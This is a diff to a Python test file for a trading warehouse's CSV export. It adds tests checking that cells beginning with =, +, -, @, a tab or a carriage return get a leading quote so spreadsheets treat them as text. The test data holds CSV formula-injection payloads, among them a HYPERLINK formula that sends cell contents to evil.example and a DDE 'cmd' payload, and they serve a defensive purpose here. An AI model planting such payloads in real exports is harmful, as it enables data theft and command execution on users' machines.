@@ -56,8 +56,67 @@ def test_screen_csv_is_the_visible_tree_with_plain_numbers(loaded_warehouse: War
 def test_screen_csv_quotes_hostile_labels_and_leaves_missing_values_blank() -> None:
     tree = [{"_id": "a", "_path": ['=HYPERLINK("x"),"evil"'], "_kind": "leaf", "_level": 1, "pnl": None}]
     rows = _read(screen_csv(tree, {"pnl": float("nan")}, Expansion(), ["desk"], [("pnl", "P&L")]))
-    assert rows[1] == ["Detail", '=HYPERLINK("x"),"evil"', ""]
+    assert rows[1] == ["Detail", '\'=HYPERLINK("x"),"evil"', ""]
     assert rows[2] == ["Total", "", ""]
+
+
+# -- formula cells: text a spreadsheet would run is written as text -------------------
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+           "\tTAB=1", "\rCR=1", "plain 'quoted' = fine"]
+
+
+def _guarded(text: str) -> str:
+    """What the export must write for ``text``: computed here from the rule, not by the code under test."""
+    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
+
+
+@pytest.fixture
+def hostile_warehouse(fresh_warehouse: Warehouse, trades: pd.DataFrame, tmp_path: Path) -> Warehouse:
+    from backend.warehouse.loader import load_folder
+
+    day = trades.trade_date.max()
+    rows = trades[(trades.trade_date == day) & (trades.exposure_type == "Direct")].head(len(HOSTILE)).copy()
+    rows["symbol"], rows["counterparty"], rows["desk"] = HOSTILE, HOSTILE[::-1], HOSTILE
+    rows["pnl"] = [-1234.5, 2.0, -0.25, 7.0, -1e9, 3.5, -8.0]  # negative numbers stay numbers
+    (tmp_path / "hostile" / "trades_1d").mkdir(parents=True)
+    rows.to_parquet(tmp_path / "hostile" / "trades_1d" / f"{day}.parquet", index=False)
+    load_folder(fresh_warehouse, tmp_path / "hostile")
+    return fresh_warehouse
+
+
+def test_raw_export_writes_formula_text_as_text_and_numbers_as_numbers(hostile_warehouse: Warehouse,
+                                                                       trades: pd.DataFrame) -> None:
+    day = trades.trade_date.max().isoformat()
+    scope = drill_scope({"dimensions": ["desk"], "metrics": ["pnl"], "filters": {"trade_date": day}}, [])
+    data = b"".join(stream_trades_csv(hostile_warehouse, scope)).decode()
+    got = {r["trade_id"]: r for r in csv.DictReader(io.StringIO(data, newline=""))}
+    assert len(got) == len(HOSTILE)
+    by_symbol = {r["symbol"]: r for r in got.values()}
+    assert set(by_symbol) == {_guarded(h) for h in HOSTILE}
+    for text, pnl in zip(HOSTILE, [-1234.5, 2.0, -0.25, 7.0, -1e9, 3.5, -8.0], strict=True):
+        row = by_symbol[_guarded(text)]
+        assert row["desk"] == _guarded(text)
+        assert float(row["pnl"]) == pnl and not row["pnl"].startswith("'")
+    assert sorted(r["counterparty"] for r in got.values()) == sorted(_guarded(h) for h in HOSTILE)
+    assert all(not r["quantity"].startswith("'") and float(r["quantity"]) == float(r["quantity"]) for r in got.values())
+
+
+def test_screen_csv_of_hostile_groups_writes_text_with_a_quote(hostile_warehouse: Warehouse,
+                                                               trades: pd.DataFrame) -> None:
+    day = trades.trade_date.max().isoformat()
+    body = {"dimensions": ["desk", "symbol"], "metrics": ["pnl"], "filters": {"trade_date": day}}
+    result = run_pivot(hostile_warehouse, PivotRequest.model_validate(body)).to_dict()
+    tree = tree_rows(result)
+    opened = Expansion(open=tuple(r["_id"] for r in tree if r["_kind"] == "group"))
+    rows = _read(screen_csv(tree, result["totals"], opened, body["dimensions"], metric_fields(["pnl"], [], [])))
+    desks = {r[1]: r for r in rows[1:-1] if r[0] == "Subtotal"}
+    assert set(desks) == {_guarded(h) for h in HOSTILE}
+    pnl = dict(zip(HOSTILE, [-1234.5, 2.0, -0.25, 7.0, -1e9, 3.5, -8.0], strict=True))
+    for text, value in pnl.items():
+        assert float(desks[_guarded(text)][3]) == value
+    leaves = [r for r in rows[1:-1] if r[0] == "Detail"]
+    assert sorted(r[2] for r in leaves) == sorted(_guarded(h) for h in HOSTILE)
+    assert float(rows[-1][3]) == pytest.approx(sum(pnl.values()))
 
 
 def _raw_csv(wh: Warehouse, scope, chunk_rows: int) -> pd.DataFrame:
